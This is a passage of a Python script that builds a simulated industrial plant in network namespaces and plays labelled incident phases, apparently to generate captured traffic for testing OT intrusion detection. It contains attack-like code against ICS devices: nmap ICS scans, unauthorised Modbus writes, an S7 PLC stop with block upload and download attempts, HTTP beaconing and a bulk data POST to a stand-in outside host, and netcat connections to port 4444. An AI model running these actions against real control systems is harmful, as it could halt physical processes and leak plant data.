#!/usr/bin/env python3
"""gapwatch plant lab: a small Purdue-style plant of real OT software in
network namespaces, captured on a SPAN port, with labelled incident phases.

    sudo python3 lab/plant.py run --duration 120 --scenario normal --out lab/out/smoke
    sudo python3 lab/plant.py run --duration 2400 --scenario incidents --out lab/out/inc
    sudo python3 lab/plant.py topology            # print the host table as JSON
    sudo python3 lab/plant.py clean               # remove leftovers of killed runs

Layout (all inside namespaces named gwlab-<pid>-*, the root namespace is not
touched except for /etc/netns/<ns>/ resolver files, removed on teardown):

  gwlab-<pid>-sw   the "switch": one Linux bridge per zone (br-ctl, br-sup,
                   br-dmz, br-it, br-out) and a SPAN port (span0) that receives a
                   copy of every frame entering any switch port (tc mirred).
  gwlab-<pid>-rtr  the router/firewall between zones (one leg per zone, .1).
  gwlab-<pid>-<host>  one namespace per host, interface eth0, fixed MAC,
                   routes only to the lab subnets, no default route.

Every process is started with `ip netns exec`, recorded by PID and stopped by
PID on teardown, which runs on normal exit, on exceptions and on SIGINT/SIGTERM.
"""

import argparse
import atexit
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import threading
import time

LAB = os.path.dirname(os.path.abspath(__file__))
VENV_PY = os.path.join(LAB, ".venv", "bin", "python")
AGENTS = os.path.join(LAB, "agents.py")
PREFIX = "gwlab-"

# zone key -> (subnet prefix, bridge, description, Purdue level)
ZONES = {
    "ctl": ("10.10.1", "br-ctl", "control cell", "1"),
    "sup": ("10.10.2", "br-sup", "supervisory", "2"),
    "dmz": ("10.10.3", "br-dmz", "DMZ", "3.5"),
    "it": ("10.10.4", "br-it", "IT", "4"),
    "out": ("203.0.113", "br-out", "outside (internet stand-in, TEST-NET-3)", None),
}
LAB_ROUTES = ["10.10.0.0/16", "203.0.113.0/24"]
ROUTER_MAC = "00:1e:7a:00:00:{:02x}"  # Cisco OUI, one per leg
OT_DNS = "10.10.2.2"
IT_DNS = "10.10.4.2"
EXT = "203.0.113.50"

# MAC addresses are assigned by the lab. OUIs are real vendor prefixes (from
# Wireshark's manuf) so that vendor look-up behaves as on a real plant.
HOSTS = [
    # name, zone, host octet, MAC, role, software
    ("plc1", "ctl", 11, "00:80:f4:01:01:0b", "plc", "pymodbus Modbus/TCP server"),
    ("plc2", "ctl", 12, "00:1b:1b:01:01:0c", "plc", "python-snap7 S7 server"),
    ("rtu1", "ctl", 13, "00:02:a3:01:01:0d", "rtu", "c104 IEC 60870-5-104 server"),
    ("plc3", "ctl", 14, "00:00:bc:01:01:0e", "plc", "cpppo EtherNet/IP server"),
    ("bms1", "ctl", 15, "00:30:de:01:01:0f", "plc", "bacpypes3 BACnet/IP device"),
    ("rtu2", "ctl", 16, "00:90:e8:01:01:10", "rtu", "dnp3py DNP3 outstation"),
    ("otdns", "sup", 2, "00:1f:29:01:02:02", "network", "dnsmasq DNS/DHCP (OT)"),
    ("hmi1", "sup", 10, "00:14:22:01:02:0a", "hmi", "HMI poller (pymodbus, snap7, c104, cpppo, bacpypes3, dnp3py clients)"),
    ("scada1", "sup", 20, "3c:ec:ef:01:02:14", "scada_server", "asyncua OPC UA server + pymodbus client"),
    ("hist1", "sup", 30, "3c:52:82:01:02:1e", "historian", "asyncua client + pymodbus client + HTTP upload"),
    ("ews1", "sup", 40, "00:1a:a0:01:02:28", "engineering_workstation", "snap7 client, DHCP client (busybox udhcpc)"),
    ("web1", "dmz", 10, "00:50:56:01:03:0a", "it_host", "Python http.server HTTP/HTTPS"),
    ("files1", "dmz", 20, "00:50:56:01:03:14", "it_host", "OpenSSH sshd + pyftpdlib FTP"),
    ("itdns", "it", 2, "00:50:56:01:04:02", "network", "dnsmasq DNS/DHCP (IT)"),
    ("itws1", "it", 10, "00:0f:ea:01:04:0a", "it_host", "Python urllib HTTP(S), OpenSSH ssh, ftplib FTP, busybox udhcpc DHCP"),
    ("ext1", "out", 50, "02:00:cb:00:71:32", "unknown", "Python http.server (outside host)"),
]
ROGUE = ("rogue1", "ctl", 66, "b8:27:eb:66:66:66", "unknown", "nmap with ICS NSE scripts")
# Air-gap scenario: a dual-homed engineering laptop (one NIC in the control cell, one in
# IT, Intel OUIs) and an industrial cellular router (Cisco OUI) plugged into the cell.
DUAL = ("dual1", 77, "00:1b:21:77:01:4d", "00:1b:21:77:04:4d", "eng-laptop7")
CELL = ("cell1", "ctl", 99, "00:1b:0d:99:01:63", "unknown", "busybox udhcpc with Cisco PnP vendor class")
CELL_VENDOR_CLASS = "ciscopnp"  # Cisco Plug-and-Play DHCP clients (IOS-XE, e.g. IR1101 cellular routers)
UNUSED_OUT = "203.0.113.77"  # no host there: attempts get no answer
# Internet names the air-gap scenario looks up (answered with the outside host).
AIRGAP_NAMES = ("time.windows.com", "ocsp.digicert.com", "crl3.digicert.com")
# Real files moved into OT: a Windows PE launcher (pip's distlib) and a PowerShell script.
AIRGAP_EXE = os.path.join(LAB, ".venv", "lib", "python3.11", "site-packages", "pip", "_vendor", "distlib", "t64.exe")
AIRGAP_PS1 = os.path.join(LAB, ".venv", "bin", "Activate.ps1")


def ip_of(name):
    for h in HOSTS + [ROGUE]:
        if h[0] == name:
            return f"{ZONES[h[1]][0]}.{h[2]}"
    raise KeyError(name)


def sh(*args, check=True, quiet=False):
    r = subprocess.run(list(args), capture_output=True, text=True)
    if check and r.returncode != 0:
        raise RuntimeError(f"{' '.join(args)}: {r.stderr.strip()}")
    return r.stdout


class Plant:
    def __init__(self, args):
        self.a = args
        self.prefix = f"{PREFIX}{os.getpid()}-"
        self.out = os.path.abspath(args.out)
        self.namespaces = []
        self.procs = []  # (name, Popen)
        self.labels = []
        self.stop = threading.Event()
        self.torn_down = False
        self.t0 = None

    # ---------------------------------------------------------------- setup
    def ns(self, short):
        return self.prefix + short

    def add_ns(self, short, dns=None):
        name = self.ns(short)
        sh("ip", "netns", "add", name)
        self.namespaces.append(name)
        # No IPv6 (no router solicitations / MLD noise), loopback up.
        sh("ip", "netns", "exec", name, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1",
           "net.ipv6.conf.default.disable_ipv6=1")
        sh("ip", "-n", name, "link", "set", "lo", "up")
        if dns:
            d = f"/etc/netns/{name}"
            os.makedirs(d, exist_ok=True)
            with open(f"{d}/resolv.conf", "w") as f:
                f.write(f"search plant.lan\nnameserver {dns}\noptions timeout:2 attempts:1\n")
            with open(f"{d}/hosts", "w") as f:
                f.write(f"127.0.0.1 localhost\n")
        return name

    def port(self, ns, ifname, swport, mac, addr, zone, mirror=True):
        """veth between a namespace and the zone bridge, with SPAN mirroring."""
        sw = self.ns("sw")
        sh("ip", "-n", sw, "link", "add", swport, "type", "veth", "peer", "name", ifname, "netns", ns)
        sh("ip", "-n", ns, "link", "set", ifname, "address", mac)
        sh("ip", "-n", ns, "addr", "add", f"{addr}/24", "dev", ifname)
        sh("ip", "-n", ns, "link", "set", ifname, "up")
        sh("ip", "-n", sw, "link", "set", swport, "master", ZONES[zone][1])
        sh("ip", "-n", sw, "link", "set", swport, "up")
        if not mirror:
            return
        sh("ip", "netns", "exec", sw, "tc", "qdisc", "add", "dev", swport, "ingress")
        sh("ip", "netns", "exec", sw, "tc", "filter", "add", "dev", swport, "parent", "ffff:", "protocol", "all",
           "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "mirror", "dev", "span0")

    def add_host(self, h):
        name, zone, octet, mac, _role, _sw = h
        dns = IT_DNS if zone == "it" else (None if zone == "out" else OT_DNS)
        ns = self.add_ns(name, dns)
        self.port(ns, "eth0", f"p-{name}", mac, f"{ZONES[zone][0]}.{octet}", zone)
        for r in LAB_ROUTES:
            if zone == "out" and r.startswith("203."):
                continue
            sh("ip", "-n", ns, "route", "add", r, "via", f"{ZONES[zone][0]}.1")
        return ns

    def build(self):
        sw = self.add_ns("sw")
        sh("ip", "-n", sw, "link", "add", "span0", "type", "veth", "peer", "name", "span1")
        for i in ("span0", "span1"):
            sh("ip", "-n", sw, "link", "set", i, "up")
        for z, (_net, br, _d, _l) in ZONES.items():
            sh("ip", "-n", sw, "link", "add", br, "type", "bridge", "stp_state", "0", "forward_delay", "0")
            sh("ip", "-n", sw, "link", "set", br, "up")
        rtr = self.add_ns("rtr")
        sh("ip", "netns", "exec", rtr, "sysctl", "-qw", "net.ipv4.ip_forward=1")
        for i, (z, (net, _br, _d, _l)) in enumerate(ZONES.items()):
            self.port(rtr, f"eth-{z}", f"r-{z}", ROUTER_MAC.format(i + 1), f"{net}.1", z,
                      mirror=self.a.span == "all")
        for h in HOSTS:
            self.add_host(h)

    # ------------------------------------------------------------ processes
    def spawn(self, host, argv, log=None):
        ns = self.ns(host)
        logf = open(os.path.join(self.out, "logs", f"{log or host}.log"), "ab")
        p = subprocess.Popen(["ip", "netns", "exec", ns] + argv, stdout=logf, stderr=subprocess.STDOUT,
                             stdin=subprocess.DEVNULL, start_new_session=True, cwd=self.out)
        self.procs.append((log or host, p))
        return p

    def agent(self, host, role, *args, seed_off=0):
        return self.spawn(host, [VENV_PY, AGENTS, "--seed", str(self.a.seed * 1000 + seed_off),
                                 "--ctl", self.ctl_path(host), role] + [str(x) for x in args])

    def ctl_path(self, host):
        return os.path.join(self.out, "ctl", f"{host}.json")

    def set_ctl(self, host, **kv):
        p = self.ctl_path(host)
        try:
            with open(p) as f:
                d = json.load(f)
        except (OSError, ValueError):
            d = {}
        for k, v in kv.items():
            if v is None:
                d.pop(k, None)
            else:
                d[k] = v
        tmp = p + ".tmp"
        with open(tmp, "w") as f:
            json.dump(d, f)
        os.replace(tmp, p)

    def prepare_files(self):
        for d in ("logs", "ctl", "ssh", "tls", "ftp", "dnsmasq"):
            os.makedirs(os.path.join(self.out, d), exist_ok=True)
        for h in HOSTS + [ROGUE]:
            with open(self.ctl_path(h[0]), "w") as f:
                json.dump({}, f)
        ssh = os.path.join(self.out, "ssh")
        for k in ("host_ed25519", "client_ed25519"):
            if not os.path.exists(os.path.join(ssh, k)):
                sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", f"gapwatch-lab-{k}", "-f", os.path.join(ssh, k))
        shutil.copy(os.path.join(ssh, "client_ed25519.pub"), os.path.join(ssh, "authorized_keys"))
        os.chmod(os.path.join(ssh, "authorized_keys"), 0o600)
        with open(os.path.join(ssh, "sshd_config"), "w") as f:
            f.write(
                f"Port 22\nListenAddress {ip_of('files1')}\nHostKey {ssh}/host_ed25519\n"
                f"AuthorizedKeysFile {ssh}/authorized_keys\nPermitRootLogin prohibit-password\n"
                f"PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\nStrictModes no\n"
                f"PidFile none\nPrintMotd no\nUseDNS no\n"
            )
        tls = os.path.join(self.out, "tls")
        for name, cn in (("portal", "portal.plant.lan"), ("ext", "update.vendor-cloud.com")):
            if not os.path.exists(f"{tls}/{name}.crt"):
                sh("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "365", "-subj", f"/CN={cn}",
                   "-keyout", f"{tls}/{name}.key", "-out", f"{tls}/{name}.crt")
        os.makedirs("/run/sshd", exist_ok=True)  # sshd's privilege separation directory

    def dnsmasq(self, host, zone, dhcp_hosts):
        net = ZONES[zone][0]
        recs = []
        for h in HOSTS:
            if h[1] != "out":
                recs.append(f"--host-record={h[0]}.plant.lan,{h[0]},{ip_of(h[0])}")
        recs.append(f"--host-record=portal.plant.lan,portal,{ip_of('web1')}")
        recs.append(f"--host-record=files.plant.lan,files,{ip_of('files1')}")
        argv = [
            "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--no-poll",
            "--user=root", "--group=root", "--interface=eth0", "--bind-interfaces", "--domain=plant.lan",
            "--local=/plant.lan/", f"--pid-file={self.out}/dnsmasq/{host}.pid", "--log-facility=-",
            "--log-queries", "--no-ping", "--dhcp-authoritative",
            f"--dhcp-range={net}.100,{net}.150,255.255.255.0,1h",
            f"--dhcp-leasefile={self.out}/dnsmasq/{host}.leases",
            f"--dhcp-option=option:dns-server,{ip_of(host)}",
            f"--dhcp-option=option:router,{net}.1",
            # Internet names: a few resolve to the outside namespace, all else NXDOMAIN.
            f"--address=/update.vendor-cloud.com/{EXT}",
            f"--address=/telemetry.remote-support.net/{EXT}",
        ] + ([f"--address=/{n}/{EXT}" for n in AIRGAP_NAMES] if self.a.scenario == "airgap" else []) + [
            "--address=/#/",
        ] + recs
        for n in dhcp_hosts:
            mac = [h[3] for h in HOSTS if h[0] == n][0]
            argv.append(f"--dhcp-host={mac},{n},{ip_of(n)}")
        self.spawn(host, argv)

    def start(self):
        a = self.a
        c = a.cycle_hmi
        self.prepare_files()
        # Servers first.
        self.dnsmasq("otdns", "sup", ["ews1"])
        self.dnsmasq("itdns", "it", ["itws1"])
        self.agent("plc1", "modbus-server", "--bind", ip_of("plc1"), seed_off=1)
        self.agent("plc2", "s7-server", seed_off=2)
        self.agent("rtu1", "iec104-server", "--bind", ip_of("rtu1"), "--report-ms", int(a.report_104 * 1000), seed_off=3)
        self.agent("plc3", "enip-server", "--bind", ip_of("plc3"), seed_off=4)
        if not a.no_bacnet:
            self.agent("bms1", "bacnet-device", "--address", f"{ip_of('bms1')}/24", seed_off=5)
        if not a.no_dnp3:
            self.agent("rtu2", "dnp3-outstation", "--bind", ip_of("rtu2"), seed_off=6)
        tls = os.path.join(self.out, "tls")
        self.agent("web1", "web", "--bind", ip_of("web1"), "--http-ports", 80, "--https-ports", 443,
                   "--cert", f"{tls}/portal.crt", "--key", f"{tls}/portal.key", "--banner", "nginx/1.22.1",
                   "--title", "Plant portal", seed_off=7)
        self.agent("files1", "ftp", "--bind", ip_of("files1"), "--root", os.path.join(self.out, "ftp"), seed_off=8)
        self.spawn("files1", ["/usr/sbin/sshd", "-D", "-e", "-f", os.path.join(self.out, "ssh", "sshd_config")],
                   log="files1-sshd")
        self.agent("ext1", "web", "--bind", ip_of("ext1"), "--http-ports", 80, 8080, "--https-ports", 443,
                   "--cert", f"{tls}/ext.crt", "--key", f"{tls}/ext.key", "--banner", "Apache/2.4.57",
                   "--title", "vendor cloud", seed_off=9)
        self.agent("scada1", "opcua-server", "--bind", ip_of("scada1"), "--plc", ip_of("plc1"), "--cycle", a.cycle_scada,
                   seed_off=10)
        time.sleep(4)
        # Then clients.
        hmi = ["--plc1", ip_of("plc1"), "--plc2", ip_of("plc2"), "--plc3", ip_of("plc3"), "--rtu1", ip_of("rtu1"),
               "--cycle", c, "--gi-cycle", a.cycle_gi, "--setpoint-cycle", a.cycle_setpoint]
        if not a.no_dnp3:
            hmi += ["--rtu2", ip_of("rtu2")]
        if not a.no_bacnet:
            hmi += ["--bms", ip_of("bms1"), "--bacnet-address", f"{ip_of('hmi1')}/24"]
        self.agent("hmi1", "hmi", *hmi, seed_off=11)
        self.agent("hist1", "historian", "--plc1", ip_of("plc1"), "--scada", ip_of("scada1"), "--dmz", ip_of("web1"),
                   "--cycle", a.cycle_historian, "--replicate-cycle", a.cycle_replicate, seed_off=12)
        self.agent("ews1", "ews", "--plc2", ip_of("plc2"), "--plc2-name", "plc2.plant.lan", "--dhcp-iface", "eth0",
                   "--cycle", a.cycle_ews, seed_off=13)
        self.agent("itws1", "itws", "--web-name", "portal.plant.lan", "--files", ip_of("files1"), "--ssh-key",
                   os.path.join(self.out, "ssh", "client_ed25519"), "--dhcp-iface", "eth0", "--cycle", a.cycle_it,
                   seed_off=14)

    def start_capture(self):
        pcap = os.path.join(self.out, "capture.pcap")
        self.capture = subprocess.Popen(
            ["ip", "netns", "exec", self.ns("sw"), "tcpdump", "-i", "span0", "-s", "0", "-U", "-n", "-Z", "root",
             "-w", pcap],
            stdout=subprocess.DEVNULL, stderr=open(os.path.join(self.out, "logs", "tcpdump.log"), "wb"),
            start_new_session=True)
        self.procs.insert(0, ("tcpdump", self.capture))
        time.sleep(1.0)

    # ------------------------------------------------------------ teardown
    def teardown(self):
        if self.torn_down:
            return
        self.torn_down = True
        self.stop.set()
        if threading.current_thread() is threading.main_thread():
            for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
        # Clients and servers first, the capture last so it sees the end.
        for name, p in reversed(self.procs):
            if name == "tcpdump":
                continue
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGTERM)
                except ProcessLookupError:
                    pass
        deadline = time.time() + 5
        for name, p in self.procs:
            if name == "tcpdump":
                continue
            try:
                p.wait(max(0.1, deadline - time.time()))
            except subprocess.TimeoutExpired:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
                p.wait()
        for name, p in self.procs:
            if name == "tcpdump" and p.poll() is None:
                time.sleep(0.5)
                os.kill(p.pid, signal.SIGINT)
                try:
                    p.wait(10)
                except subprocess.TimeoutExpired:
                    p.kill()
                    p.wait()
        for ns in reversed(self.namespaces):
            kill_ns_pids(ns)
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)
            shutil.rmtree(f"/etc/netns/{ns}", ignore_errors=True)
        self.namespaces = []

    # ------------------------------------------------------------ incidents
    def label(self, name, category, start, end, hosts, note=""):
        self.labels.append({"name": name, "category": category, "start": round(start, 3), "end": round(end, 3),
                            "hosts": hosts, "note": note})
        self.write_labels()

    def write_labels(self):
        with open(os.path.join(self.out, "labels.json"), "w") as f:
            json.dump({"phases": self.labels}, f, indent=1)

    def wait_until(self, t):
        while not self.stop.is_set() and time.time() < t:
            time.sleep(min(0.5, max(0.0, t - time.time())))
        return not self.stop.is_set()

    def run_in(self, host, argv, timeout=600):
        """Run a short command in a host namespace, recorded like every process."""
        p = self.spawn(host, argv, log=f"{host}-incident")
        try:
            p.wait(timeout)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, signal.SIGKILL)
            p.wait()
        return p.returncode

    def py(self, host, code, timeout=300):
        return self.run_in(host, [VENV_PY, "-c", code], timeout)

    def incidents(self):
        """Play the incident phases at fixed offsets after --warmup seconds."""
        t = self.t0 + self.a.warmup
        plc1, plc2, rtu1 = ip_of("plc1"), ip_of("plc2"), ip_of("rtu1")
        phases = [
            ("rogue device ICS scan", "scan", self.ph_scan),
            ("unauthorised Modbus write from historian", "unusual_operation", lambda: self.ph_write(plc1)),
            ("S7 PLC stop/start and block upload from EWS", "plc_control", lambda: self.ph_plc_stop(plc2)),
            ("new connection from IT workstation into control cell", "it_ot_crossing",
             lambda: self.ph_it_ot(plc1, plc2)),
            ("DNS look-ups of internet names from EWS", "dns_external", self.ph_dns),
            ("connection attempts from EWS to outside host", "external_connection", self.ph_external),
            ("periodic beaconing from historian to outside host", "beaconing", self.ph_beacon),
            ("bulk upload from file server to outside host", "exfiltration", self.ph_upload),
            ("HMI Modbus polling cycle changed", "timing_anomaly", self.ph_cycle),
            ("out-of-range setpoint write from HMI", "value_anomaly", self.ph_setpoint),
            ("RTU goes silent", "timing_anomaly", lambda: self.ph_silent(rtu1)),
        ]
        self.play(phases, t)

    def play(self, phases, t):
        """Run (name, category, fn) phases from time t, --phase-gap apart; label each."""
        g = self.a.phase_gap
        only = (self.a.only or "").lower()
        for name, cat, fn in phases:
            if only not in name.lower():
                continue
            if not self.wait_until(t):
                return
            if time.time() > self.t0 + self.a.duration - 30:
                print(f"[lab] no time left for phase {name!r}", file=sys.stderr)
                return
            start = time.time()
            print(f"[lab] phase {name!r} ({cat}) at +{start - self.t0:.0f}s", file=sys.stderr)
            hosts, note, end = fn()
            end = end or time.time()
            self.label(name, cat, start, end, hosts, note)
            t = end + g

    def ph_scan(self):
        ns = self.add_host(ROGUE)
        del ns
        targets = ",".join(str(h[2]) for h in HOSTS if h[1] == "ctl")
        net = ZONES["ctl"][0]
        self.run_in("rogue1", ["nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1",
                               "-p", "T:102,502,2404,20000,44818", "--script", "modbus-discover,s7-info,enip-info",
                               f"{net}.{targets}"], timeout=300)
        self.run_in("rogue1", ["nmap", "-n", "-Pn", "-sU", "-p", "U:47808,44818", "--script",
                               "bacnet-info,enip-info", ip_of("bms1"), ip_of("plc3")], timeout=300)
        end = time.time()
        # The rogue device leaves again (cable pulled).
        kill_ns_pids(self.ns("rogue1"))
        subprocess.run(["ip", "netns", "del", self.ns("rogue1")], capture_output=True)
        subprocess.run(["ip", "-n", self.ns("sw"), "link", "del", "p-rogue1"], capture_output=True)
        shutil.rmtree(f"/etc/netns/{self.ns('rogue1')}", ignore_errors=True)
        self.namespaces.remove(self.ns("rogue1"))
        return [ip_of("rogue1")] + [ip_of(h[0]) for h in HOSTS if h[1] == "ctl"], \
            "nmap -sS/-sU with modbus-discover, s7-info, enip-info, bacnet-info from a new MAC (b8:27:eb)", end

    def ph_write(self, plc1):
        code = ("from pymodbus.client import ModbusTcpClient\n"
                f"c=ModbusTcpClient('{plc1}',port=502,timeout=3);c.connect()\n"
                "import time\n"
                "for v in (0,0,0):\n"
                "  c.write_register(20,v,slave=1); c.write_coil(0,False,slave=1); time.sleep(2)\n"
                "c.close()\n")
        self.py("hist1", code)
        return [ip_of("hist1"), plc1], "Modbus FC6 write register 20 and FC5 write coil 0 (historian only reads)", None

    def ph_plc_stop(self, plc2):
        code = ("import snap7,time\nfrom snap7.type import Block\n"
                f"c=snap7.client.Client();c.connect('{plc2}',0,1)\n"
                "c.plc_stop();time.sleep(10)\n"
                "try:\n  c.upload(1)\nexcept Exception as e: print('upload',e)\n"
                "try:\n  c.download(bytearray(64),1)\nexcept Exception as e: print('download',e)\n"
                "c.plc_hot_start();c.disconnect()\n")
        self.py("ews1", code)
        return [ip_of("ews1"), plc2], "S7 PLC STOP, block upload/download attempt, hot start", None

    def ph_it_ot(self, plc1, plc2):
        code = ("from pymodbus.client import ModbusTcpClient\nimport snap7\n"
                f"c=ModbusTcpClient('{plc1}',port=502,timeout=3);c.connect()\n"
                "for a in range(0,100,10): c.read_holding_registers(a,count=10,slave=1)\n"
                f"c.close();s=snap7.client.Client();s.connect('{plc2}',0,1);s.db_read(1,0,32);s.disconnect()\n")
        self.py("itws1", code)
        return [ip_of("itws1"), plc1, plc2], "Modbus reads and S7 read from IT workstation", None

    def ph_dns(self):
        code = ("import socket,time\n"
                "for n in ('update.vendor-cloud.com','telemetry.remote-support.net','www.google.com',"
                "'pastebin.com','api.github.com'):\n"
                "  try: socket.getaddrinfo(n,443,socket.AF_INET)\n  except OSError: pass\n  time.sleep(1)\n")
        self.py("ews1", code)
        return [ip_of("ews1"), OT_DNS], "A look-ups via OT dnsmasq; two answer 203.0.113.50, rest NXDOMAIN", None

    def ph_external(self):
        code = ("import socket,ssl,time,urllib.request\n"
                "ctx=ssl.create_default_context();ctx.check_hostname=False;ctx.verify_mode=ssl.CERT_NONE\n"
                "for i in range(3):\n"
                "  try: urllib.request.urlopen('https://update.vendor-cloud.com/check',timeout=5,context=ctx).read()\n"
                "  except Exception as e: print(e)\n"
                "  time.sleep(5)\n"
                f"for p in (22,3389,8443):\n  s=socket.socket();s.settimeout(3)\n"
                f"  try: s.connect(('{EXT}',p))\n  except OSError: pass\n  s.close()\n")
        self.py("ews1", code)
        return [ip_of("ews1"), EXT], "HTTPS to update.vendor-cloud.com and TCP attempts to 22/3389/8443", None

    def ph_beacon(self):
        n, period = self.a.beacon_count, self.a.beacon_period
        code = ("import time,urllib.request\n"
                f"t=time.time()\nfor i in range({n}):\n"
                f"  try: urllib.request.urlopen('http://{EXT}:8080/b?id=7f3a&seq=%d'%i,timeout=5).read()\n"
                "  except Exception as e: print(e)\n"
                f"  t+={period}; time.sleep(max(0,t-time.time()))\n")
        self.py("hist1", code, timeout=n * period + 60)
        return [ip_of("hist1"), EXT], f"HTTP GET every {period} s, {n} times", None

    def ph_upload(self):
        mb = self.a.upload_mb
        code = ("import urllib.request\n"
                "row=b'2026-11-28T08:00:00Z,TankLevel,50.25,Flow,120,Pressure,4.2,Temp,65.1\\n'\n"
                f"body=row*({mb}*1024*1024//len(row))\n"
                f"urllib.request.urlopen(urllib.request.Request('http://{EXT}/upload',data=body,method='POST'),"
                "timeout=60).read()\n")
        self.py("files1", code)
        return [ip_of("files1"), EXT], f"HTTP POST of {mb} MiB (historian CSV export)", None

    def ph_cycle(self):
        self.set_ctl("hmi1", modbus_cycle=self.a.cycle_hmi / 5)
        end = time.time() + self.a.phase_len
        self.wait_until(end)
        self.set_ctl("hmi1", modbus_cycle=None)
        return [ip_of("hmi1"), ip_of("plc1")], f"Modbus poll {self.a.cycle_hmi}s -> {self.a.cycle_hmi / 5}s", end

    def ph_setpoint(self):
        # Two operator writes of 950, 20 s apart, on the HMI's own connection.
        for i in (1, 2):
            self.set_ctl("hmi1", setpoint_value=950, setpoint_token=f"incident-{i}")
            self.wait_until(time.time() + (20 if i == 1 else 5))
        end = time.time()
        self.set_ctl("hmi1", setpoint_value=None)
        return [ip_of("hmi1"), ip_of("plc1")], "FC6 register 10 = 950 twice (normal 480..520)", end

    def ph_silent(self, rtu1):
        sh("ip", "-n", self.ns("rtu1"), "link", "set", "eth0", "down")
        end = time.time() + self.a.phase_len
        self.wait_until(end)
        if self.ns("rtu1") in self.namespaces:
            sh("ip", "-n", self.ns("rtu1"), "link", "set", "eth0", "up")
        return [rtu1, ip_of("hmi1")], f"RTU link down for {self.a.phase_len} s", end

    # ------------------------------------------------------------- air gap
    def airgap(self):
        """Air-gap phases: the gap's boundaries crossed by real tools after --warmup s."""
        plc1, plc2 = ip_of("plc1"), ip_of("plc2")
        phases = [
            ("connection attempts from SCADA server to outside addresses", "external_connection",
             self.ph_outside),
            ("internet dependencies of the EWS: DNS, NTP, OCSP and CRL", "dns_external", self.ph_internet_deps),
            ("IT workstation reads control-cell PLCs", "it_ot_crossing", lambda: self.ph_it_ot(plc1, plc2)),
            ("dual-homed laptop forwards IT hosts into the control cell", "it_ot_crossing", self.ph_dual_homed),
            ("cellular router appears in the control cell", "it_ot_crossing", self.ph_cellular),
            ("VNC session from IT workstation to HMI", "remote_access", self.ph_vnc),
            ("executable and script uploaded over FTP into OT", "file_transfer", self.ph_ftp_upload),
            ("executable and script copied over SMB into OT", "file_transfer", self.ph_smb_upload),
            ("executable and script downloaded over HTTP by the EWS", "file_transfer", self.ph_http_download),
        ]
        self.play(phases, self.t0 + self.a.warmup)

    def extra_host(self, short, dns, legs, routes_via=None):
        """A namespace joining the switch for one phase: legs = (ifname, mac, addr, zone)."""
        ns = self.add_ns(short, dns)
        for i, (ifname, mac, addr, zone) in enumerate(legs):
            self.port(ns, ifname, f"p-{short}{i}", mac, addr, zone)
        for r in LAB_ROUTES if routes_via else []:
            sh("ip", "-n", ns, "route", "add", r, "via", routes_via)
        return ns

    def remove_host(self, short, nlegs):
        """The phase's device leaves again (cable pulled)."""
        kill_ns_pids(self.ns(short))
        subprocess.run(["ip", "netns", "del", self.ns(short)], capture_output=True)
        for i in range(nlegs):
            subprocess.run(["ip", "-n", self.ns("sw"), "link", "del", f"p-{short}{i}"], capture_output=True)
        shutil.rmtree(f"/etc/netns/{self.ns(short)}", ignore_errors=True)
        self.namespaces.remove(self.ns(short))

    def ph_outside(self):
        # busybox nc: a closed port of the outside host (answered by RST), a TEST-NET
        # address where nothing lives (no answer); nslookup to that address as a resolver
        # (UDP, no answer); busybox tftp fetching a file from the outside host (UDP 69,
        # closed: ICMP port unreachable).
        script = (f"for i in 1 2 3; do busybox nc -w 3 {EXT} 4444 </dev/null; "
                  f"busybox nc -w 3 {UNUSED_OUT} 443 </dev/null; "
                  f"busybox timeout 4 busybox nslookup status.vendor-cloud.com {UNUSED_OUT}; "
                  f"busybox timeout 3 busybox tftp -g -r fw.bin -l /dev/null {EXT}; sleep 2; done")
        self.run_in("scada1", ["sh", "-c", script], timeout=120)
        return [ip_of("scada1"), EXT, UNUSED_OUT], \
            "TCP 4444 (refused) and 443 to an empty address (no answer), DNS to it and TFTP to 203.0.113.50, 3 times", None

    def ph_internet_deps(self):
        names = ",".join(repr(n) for n in AIRGAP_NAMES)
        code = ("import socket,time,ntplib\n"
                f"for n in ({names},):\n"
                "  try: socket.getaddrinfo(n,80,socket.AF_INET)\n  except OSError as e: print(n,e)\n"
                "  time.sleep(1)\n"
                "for i in range(2):\n"
                "  try: print(ntplib.NTPClient().request('time.windows.com',version=4,timeout=3).offset)\n"
                "  except Exception as e: print('ntp',e)\n")
        self.py("ews1", code)
        tls = os.path.join(self.out, "tls")
        self.run_in("ews1", ["openssl", "ocsp", "-issuer", f"{tls}/ext.crt", "-cert", f"{tls}/portal.crt",
                             "-url", "http://ocsp.digicert.com/", "-timeout", "5", "-noverify"], timeout=30)
        # busybox 1.35 wget crashes with -T: the run's timeout bounds it instead.
        self.run_in("ews1", ["busybox", "wget", "-q", "-O", "/dev/null",
                             "http://crl3.digicert.com/DigiCertGlobalRootCA.crl"], timeout=30)
        return [ip_of("ews1"), OT_DNS, EXT], \
            "DNS for time.windows.com, ocsp.digicert.com, crl3.digicert.com; ntplib NTP; openssl ocsp; CRL GET", None

    def ph_dual_homed(self):
        name, octet, mac_ctl, mac_it, hostname = DUAL
        ctl_ip, it_ip = f"{ZONES['ctl'][0]}.{octet}", f"{ZONES['it'][0]}.{octet}"
        self.extra_host(name, IT_DNS, [("eth0", mac_ctl, ctl_ip, "ctl"), ("eth1", mac_it, it_ip, "it")])
        sh("ip", "netns", "exec", self.ns(name), "sysctl", "-qw", "net.ipv4.ip_forward=1")
        # The same host name announced by DHCP on both legs (the cell has no DHCP server).
        for ifname in ("eth0", "eth1"):
            self.run_in(name, ["busybox", "udhcpc", "-i", ifname, "-n", "-q", "-f", "-t", "2", "-T", "2",
                               "-x", f"hostname:{hostname}", "-F", hostname, "-s", "/bin/true"], timeout=30)
        self.run_in(name, ["busybox", "ping", "-c", "2", ip_of("plc1")], timeout=20)
